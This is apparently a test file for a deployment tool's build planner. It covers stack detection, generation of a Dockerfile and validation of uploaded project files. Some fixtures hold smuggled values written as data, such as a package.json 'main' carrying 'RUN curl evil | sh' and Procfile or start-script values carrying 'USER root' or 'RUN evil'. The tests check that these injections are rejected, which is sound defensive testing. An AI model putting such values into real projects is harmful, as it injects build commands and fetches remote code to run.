import { afterAll, describe, expect, test } from 'bun:test';
import { BuildError } from '../../src/deployments/failures.ts';
import { planBuild, type BuildPlan } from '../../src/build/plan.ts';
import { FIXTURE_IMAGES, sourceFactory, type Tree } from './sources.ts';

const sources = sourceFactory();
afterAll(() => sources.cleanup());

async function plan(tree: Tree, projectDockerfile: string | null = null): Promise<BuildPlan> {
  const source = await sources.make(tree, projectDockerfile);
  return planBuild(source, { projectDockerfile, images: FIXTURE_IMAGES });
}

async function failure(tree: Tree, projectDockerfile: string | null = null): Promise<string> {
  try {
    await plan(tree, projectDockerfile);
  } catch (err) {
    expect(err).toBeInstanceOf(BuildError);
    expect((err as BuildError).canceled).toBe(false);
    return (err as Error).message;
  }
  throw new Error('expected planning to fail');
}

const pkg = (fields: object) => JSON.stringify(fields);

describe('planBuild with a Dockerfile', () => {
  test('uses a root Dockerfile as is, whatever else the upload holds', async () => {
    const p = await plan({ Dockerfile: 'FROM x\n', 'package.json': pkg({}), 'index.html': '<h1>' });
    expect(p).toEqual({
      stack: 'dockerfile',
      dockerfilePath: 'Dockerfile',
      generatedDockerfile: null,
      dockerignore: null,
      checked: { images: [{ line: 1, how: 'FROM', ref: 'x' }], bases: [{ line: 1, how: 'FROM', ref: 'x' }] },
    });
  });

  test("uses the project's dockerfile setting over a root Dockerfile", async () => {
    const p = await plan({ Dockerfile: 'FROM a\n', 'deploy/Dockerfile.prod': 'FROM b\n' }, './deploy/Dockerfile.prod');
    expect(p.stack).toBe('dockerfile');
    expect(p.dockerfilePath).toBe('deploy/Dockerfile.prod');
  });

  test("fails when the project's dockerfile is not in the upload", async () => {
    expect(await failure({ Dockerfile: 'FROM a\n' }, 'deploy/Dockerfile')).toBe(
      'The project\'s Dockerfile "deploy/Dockerfile" is not in the upload',
    );
  });

  test('carries the .dockerignore rules', async () => {
    const p = await plan({ Dockerfile: 'FROM a\n', '.dockerignore': 'node_modules\n!keep\n' });
    expect(p.dockerignore).toBe('node_modules\n!keep\n');
  });

  test('fails when the .dockerignore cannot be read', async () => {
    expect(
      await failure({ Dockerfile: 'FROM a\n', '.gitignore': 'x', '.dockerignore': { symlink: '.gitignore' } }),
    ).toBe('Cannot read .dockerignore: it is a symlink or too large to inspect');
  });
});

describe('planBuild detects the stack', () => {
  const cases: [string, Tree, BuildPlan['stack']][] = [
    ['index.html', { 'index.html': '<h1>hi</h1>' }, 'static'],
    ['package.json', { 'package.json': pkg({ main: 'app.js' }) }, 'node'],
    [
      'bun.lock before package.json',
      { 'package.json': pkg({ main: 'a.ts' }), 'bun.lock': '{}', 'package-lock.json': '{}' },
      'bun',
    ],
    ['bun.lockb', { 'package.json': pkg({ main: 'a.ts' }), 'bun.lockb': 'bin' }, 'bun'],
    [
      'package.json before requirements.txt',
      { 'package.json': pkg({ main: 'a.js' }), 'requirements.txt': '', 'app.py': '' },
      'node',
    ],
    ['requirements.txt', { 'requirements.txt': 'flask\n', 'app.py': '' }, 'python'],
    ['pyproject.toml before go.mod', { 'pyproject.toml': '', 'main.py': '', 'go.mod': 'module x\n' }, 'python'],
    ['go.mod before index.html', { 'go.mod': 'module x\n', 'index.html': '' }, 'go'],
    ['root files only', { 'web/package.json': pkg({}), 'index.html': '' }, 'static'],
  ];
  for (const [name, tree, stack] of cases) {
    test(`${name} → ${stack}`, async () => {
      const p = await plan(tree);
      expect(p.stack).toBe(stack);
      expect(p.dockerfilePath).toBe('.slipway/Dockerfile');
      expect(p.generatedDockerfile).toStartWith('FROM ');
    });
  }

  test('fails with the list of what it looked for', async () => {
    expect(await failure({ 'README.md': '# hi', 'src/index.html': '' })).toBe(
      'No Dockerfile and no recognised stack: looked for Dockerfile, index.html, package.json, bun.lock/bun.lockb, requirements.txt, pyproject.toml, go.mod',
    );
  });

  test('refuses to generate a Dockerfile over a user file in .slipway/', async () => {
    expect(await failure({ 'index.html': '', '.slipway/Dockerfile': 'FROM evil' })).toBe(
      'Cannot generate a Dockerfile: ".slipway/Dockerfile" is in .slipway/, which Slipway reserves for it',
    );
    expect(await failure({ 'index.html': '', '.slipway': 'a file' })).toContain('".slipway" is in .slipway/');
  });
});

describe('planBuild for Node', () => {
  const cmdOf = (p: BuildPlan) => p.generatedDockerfile!.split('\n').find((l) => l.startsWith('CMD '));

  test('runs the start script through sh, without npm', async () => {
    expect(cmdOf(await plan({ 'package.json': pkg({ scripts: { start: 'node server.js --port "$PORT"' } }) }))).toBe(
      'CMD ["sh","-c","exec node server.js --port \\"$PORT\\""]',
    );
  });

  test('falls back to main, then server.js, then index.js', async () => {
    expect(cmdOf(await plan({ 'package.json': pkg({ main: 'lib/app.js' }), 'server.js': '' }))).toBe(
      'CMD ["node","lib/app.js"]',
    );
    expect(cmdOf(await plan({ 'package.json': pkg({}), 'server.js': '', 'index.js': '' }))).toBe(
      'CMD ["node","server.js"]',
    );
    expect(cmdOf(await plan({ 'package.json': pkg({}), 'index.js': '' }))).toBe('CMD ["node","index.js"]');
  });

  test('fails when there is nothing to start', async () => {
    expect(await failure({ 'package.json': pkg({ scripts: { build: 'tsc' } }) })).toBe(
      'Cannot start the Node app: package.json has no "start" script or "main", and there is no server.js or index.js',
    );
  });

  test('rejects a main with a line break, which would inject Dockerfile instructions', async () => {
    expect(await failure({ 'package.json': pkg({ main: 'a.js\nRUN curl evil | sh' }) })).toBe(
      'package.json "main" contains a line break or control character, which cannot go into a Dockerfile',
    );
    expect(await failure({ 'package.json': pkg({ scripts: { start: 'node a.js\rUSER root' } }) })).toBe(
      'package.json "scripts.start" contains a line break or control character, which cannot go into a Dockerfile',
    );
  });

  test('rejects a package.json that is not a usable JSON object', async () => {
    expect(await failure({ 'package.json': '{ "main": ' })).toStartWith('package.json is not valid JSON: ');
    expect(await failure({ 'package.json': '[]' })).toBe('package.json must hold a JSON object');
    expect(await failure({ 'package.json': pkg({ main: 1 }) })).toBe('package.json "main" must be a string');
    expect(await failure({ 'package.json': pkg({ scripts: { start: ['node'] } }) })).toBe(
      'package.json "scripts.start" must be a string',
    );
  });

  test('refuses a Dockerfile it cannot read whole to check: a symlink, or one over 1 MiB', async () => {
    expect(await failure({ 'real.Dockerfile': 'FROM a\n', Dockerfile: { symlink: 'real.Dockerfile' } })).toBe(
      'Cannot read Dockerfile: it is a symlink or too large to inspect',
    );
    expect(await failure({ Dockerfile: `FROM a\n${'#'.repeat(1024 * 1024)}\n` })).toBe(
      'Cannot read Dockerfile: it is a symlink or too large to inspect',
    );
  });

  test('fails when package.json is a symlink it cannot read', async () => {
    expect(await failure({ 'app.json': pkg({}), 'package.json': { symlink: 'app.json' } })).toBe(
      'Cannot read package.json: it is a symlink or too large to inspect',
    );
  });
});

describe('planBuild for Bun', () => {
  test('runs the start script with bun run, else main or index', async () => {
    const withStart = await plan({ 'package.json': pkg({ scripts: { start: 'bun server.ts' } }), 'bun.lock': '{}' });
    expect(withStart.generatedDockerfile).toContain('CMD ["bun","run","start"]');
    const withMain = await plan({ 'package.json': pkg({ main: 'src/main.ts' }), 'bun.lock': '{}', 'index.ts': '' });
    expect(withMain.generatedDockerfile).toContain('CMD ["bun","src/main.ts"]');
    const withIndex = await plan({ 'package.json': pkg({}), 'bun.lockb': 'x', 'index.ts': '' });
    expect(withIndex.generatedDockerfile).toContain('CMD ["bun","index.ts"]');
  });

  test('fails without a package.json or an entry point', async () => {
    expect(await failure({ 'bun.lock': '{}', 'index.ts': '' })).toBe(
      'Cannot build the Bun app: there is a bun.lock but no package.json',
    );
    expect(await failure({ 'bun.lock': '{}', 'package.json': pkg({}) })).toBe(
      'Cannot start the Bun app: package.json has no "start" script or "main", and there is no index.ts, index.js, server.ts or server.js',
    );
  });
});

describe('planBuild for Python', () => {
  const cmdOf = async (tree: Tree) =>
    (await plan(tree)).generatedDockerfile!.split('\n').find((l) => l.startsWith('CMD '));

  test("runs the Procfile's web command, else app.py, else main.py", async () => {
    const procfile = 'release: python migrate.py\r\nweb: gunicorn app:app --bind 0.0.0.0:$PORT\r\n';
    expect(await cmdOf({ 'requirements.txt': '', Procfile: procfile, 'app.py': '' })).toBe(
      'CMD ["sh","-c","exec gunicorn app:app --bind 0.0.0.0:$PORT"]',
    );
    expect(
      await cmdOf({ 'requirements.txt': '', Procfile: 'worker: python w.py\n', 'app.py': '', 'main.py': '' }),
    ).toBe('CMD ["python","app.py"]');
    expect(await cmdOf({ 'pyproject.toml': '', 'main.py': '' })).toBe('CMD ["python","main.py"]');
  });

  test('fails when there is nothing to start', async () => {
    expect(await failure({ 'requirements.txt': 'flask\n', 'server.py': '' })).toBe(
      'Cannot start the Python app: there is no Procfile with a "web:" line, and no app.py or main.py',
    );
  });

  test('rejects a Procfile command with a control character', async () => {
    expect(await failure({ 'requirements.txt': '', Procfile: 'web: python app.py\rRUN evil\n' })).toBe(
      'Procfile "web" command contains a line break or control character, which cannot go into a Dockerfile',
    );
  });
});

describe('planBuild for Go', () => {
  test('copies go.sum only when there is one', async () => {
    expect((await plan({ 'go.mod': 'module x\n', 'go.sum': '', 'main.go': '' })).generatedDockerfile).toContain(
      'COPY go.mod go.sum ./',
    );
    expect((await plan({ 'go.mod': 'module x\n', 'main.go': '' })).generatedDockerfile).toContain('COPY go.mod ./');
  });
});
